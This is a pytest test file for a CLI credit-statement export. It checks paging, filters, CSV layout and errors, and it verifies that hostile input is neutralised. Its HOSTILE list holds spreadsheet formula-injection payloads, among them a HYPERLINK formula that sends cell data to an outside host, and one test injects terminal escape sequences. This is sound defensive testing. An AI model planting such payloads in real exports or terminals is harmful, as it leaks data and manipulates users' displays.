"""`ulak credit statement`: what people, programs and spreadsheets see of a credit's movements."""

import csv
import io
from pathlib import Path

import pytest

from tests.edge.cli.conftest import CommandLine
from tests.edge.cli.test_export import send
from ulak.edge.statement import ACTOR, COLUMNS
from ulak.rules.csv import unguarded

HOSTILE = [
    'paid "twice", really; yes',
    '=HYPERLINK("https://example.com/?"&A1)',
    "+905550000000",
    "-2+3",
    "@SUM(1)",
    "gel;=1+1;gel",
    "'quoted'",
    "Şişli'de çay 5 € ☕ 👧 İıĞğ",
    " spaces ",
    "[red]red[/red]",
]


def read(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    """The records by the columns' names."""
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def statement(shop: CommandLine, *words: object) -> list[dict[str, str]]:
    return read(shop.text("credit", "statement", "--user=mark", "--csv=-", *words))


def test_the_entries_newest_first_with_what_it_held_after_each(shop: CommandLine, dsn: str) -> None:
    shop("credit", "add", "120", "--user=mark", "--note=invoice 17")
    shop("credit", "take", "0.5", "--user=mark", "--note=typed twice")

    found = shop("credit", "statement", "--user=mark")

    assert (found["balance"], found["currency"], found["older"]) == ("119.500000", "USD", None)
    taken, added = found["entries"]
    assert (taken["kind"], taken["amount"], taken["balance"]) == ("correction", "-0.500000", "119.500000")
    assert (added["kind"], added["amount"], added["balance"]) == ("topup", "120.000000", "120.000000")
    assert added["note"] == "invoice 17"
    assert added["actor"].startswith("cli:")
    said = shop.text("credit", "statement", "--user=mark")
    assert "+120.000000" in said
    assert "invoice 17" in said
    assert "It holds 119.500000 USD." in said


def test_page_after_page(shop: CommandLine) -> None:
    for amount in range(1, 6):
        shop("credit", "add", amount, "--user=mark")

    first = shop("credit", "statement", "--user=mark", "--limit=2")
    second = shop("credit", "statement", "--user=mark", "--limit=2", "--older-than", first["older"])

    assert [entry["amount"][0] for entry in first["entries"] + second["entries"]] == list("5432")
    assert f"--older-than {first['older']}" in shop.text("credit", "statement", "--user=mark", "--limit=2")


def test_a_credit_without_movements(shop: CommandLine) -> None:
    found = shop("credit", "statement", "--org=Main Organization", "--user=mark")

    assert found == {"balance": "0.000000", "currency": "USD", "older": None, "entries": []}
    assert "none" in shop.text("credit", "statement", "--user=mark")
    written = shop.run("credit", "statement", "--user=mark", "--csv=-").stdout_bytes.decode()
    assert written == ",".join((*COLUMNS, ACTOR)) + "\r\n"


def test_the_fields_of_a_record_and_their_order(shop: CommandLine, dsn: str) -> None:
    shop("credit", "add", "5", "--user=mark", "--note=invoice 17")
    sending = send(dsn, "mark", "merhaba", to=3)

    added, funded, charged = statement(shop)

    assert tuple(added) == (*COLUMNS, ACTOR)
    assert added.pop("createdAt").endswith("Z")
    assert added.pop("actor").startswith("cli:")
    assert added == {
        "kind": "topup",
        "amount": "5.000000",
        "balance": "5.000000",
        "currency": "USD",
        "sendingId": "",
        "messageId": "",
        "note": "invoice 17",
    }
    assert funded["balance"] == "1000005.000000"
    assert (charged["kind"], charged["amount"]) == ("charge", "-3.000000")
    assert (charged["balance"], charged["sendingId"]) == ("1000002.000000", str(sending))
    entry = shop("credit", "statement", "--user=mark")["entries"][0]
    assert (entry["sendingId"], entry["text"], entry["service"]) == (str(sending), "merhaba", "BobSMS")


def test_hostile_notes_come_back_and_none_is_a_formula(shop: CommandLine) -> None:
    for note in HOSTILE:
        shop("credit", "add", "1", "--user=mark", "--note", note)

    found = [record["note"] for record in statement(shop)]

    assert [unguarded(note) for note in found] == HOSTILE
    assert not [note for note in found if note.startswith(tuple("=+-@\t\r"))]
    assert [entry["note"] for entry in shop("credit", "statement", "--user=mark")["entries"]] == HOSTILE[::-1]
    assert "[red]red[/red]" in shop.text("credit", "statement", "--user=mark")


def test_a_text_cannot_give_the_terminal_orders(shop: CommandLine, dsn: str) -> None:
    send(dsn, "mark", "a\x1b[31mred\r\nb\x07", to=1)

    said = shop.text("credit", "statement", "--user=mark")

    assert "\x1b" not in said
    assert "\x07" not in said
    assert r"a\u001b[31mred" in said


def test_into_a_file(shop: CommandLine, tmp_path: Path) -> None:
    shop("credit", "add", "0.25", "--user=mark", "--note=çay; şeker")
    out = tmp_path / "out.csv"

    answer = shop("credit", "statement", "--user=mark", "--csv", out, "--bom", "--semicolons")

    assert answer == {"file": str(out), "entries": 1, "bytes": out.stat().st_size}
    assert out.read_bytes().startswith(b"\xef\xbb\xbfcreatedAt;kind;")
    [record] = read(out.read_bytes().decode("utf-8-sig"), ";")
    assert (record["note"], record["amount"]) == ("çay; şeker", "0,250000")
    assert out.stat().st_mode & 0o777 == 0o600
    assert "1 entries" in shop.text("credit", "statement", "--user=mark", "--csv", out)
    assert "--csv" in shop.fails("credit", "statement", "--user=mark", "--csv=-", "--json", code=2)


def test_by_kind_and_date(shop: CommandLine) -> None:
    shop("credit", "add", "5", "--user=mark")
    shop("credit", "take", "1", "--user=mark")
    day = statement(shop)[0]["createdAt"][:10]

    def kinds(*words: str) -> list[str]:
        listed = [entry["kind"] for entry in shop("credit", "statement", "--user=mark", *words)["entries"]]
        assert listed[::-1] == [record["kind"] for record in statement(shop, *words)]
        return listed

    assert kinds("--kind=topup", "--kind=refund") == ["topup"]
    assert kinds("--kind=correction") == ["correction"]
    assert kinds("--since", day, "--until", day) == ["correction", "topup"]
    assert kinds("--since=2199-01-01") == kinds("--until=2020-01-01") == []


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ([], "--user"),
        (["--user=nobody"], "ulak user list"),
        (["--org=Nobody"], "ulak org list"),
        (["--user=mark", "--kind=gift"], "gift"),
        (["--user=mark", "--since=yesterday"], "yesterday"),
        (["--user=mark", "--until=2026-02-30"], "2026-02-30"),
        (["--user=mark", "--csv=/"], "directory"),
        (["--user=mark", "--csv=/nowhere/at/all.csv"], "/nowhere/at/all.csv"),
    ],
)
def test_what_cannot_be_shown_is_one_sentence(shop: CommandLine, words: list[str], said: str) -> None:
    assert said in shop.fails("credit", "statement", *words)
